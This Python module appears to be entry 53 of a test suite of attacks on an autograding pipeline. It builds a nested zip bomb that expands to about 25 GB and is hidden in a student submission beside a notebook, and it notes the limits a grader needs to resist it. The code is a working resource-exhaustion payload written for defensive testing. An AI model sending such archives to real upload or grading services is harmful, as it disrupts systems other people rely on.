"""Archives in archives, 25 GB in all, and an ordinary notebook."""

import io
import zipfile
from pathlib import Path

ATTACK = {
    "number": 53,
    "name": "zip-bomb",
    "tries": "To have archives in archives unpacked until memory or disk is full: 25 GB in all, "
    "beside an ordinary notebook.",
    "must": "limit the number, the size and the ratio of an archive's entries, and unpack into "
    "memory.",
    "standing": "graded",
    "otter": "otter leaves unpacking to others: Canvas's archive, Gradescope",
    "needs": "",
}
NOTEBOOK = Path(__file__).parents[1] / "target" / "wrong.ipynb"


def packed(files: dict[str, bytes]) -> bytes:
    """An archive of these files."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files.items():
            made.writestr(name, data)
    return archive.getvalue()


def submission() -> dict[str, bytes]:
    """Sixteen archives of sixteen archives of 100 MB, and the notebook."""
    inner = packed({"target.ipynb": bytes(100 * 2**20)})
    for _ in range(2):
        inner = packed({f"{number}.zip": inner for number in range(16)})
    return {"target.zip": packed({"more.zip": inner, "target.ipynb": NOTEBOOK.read_bytes()})}
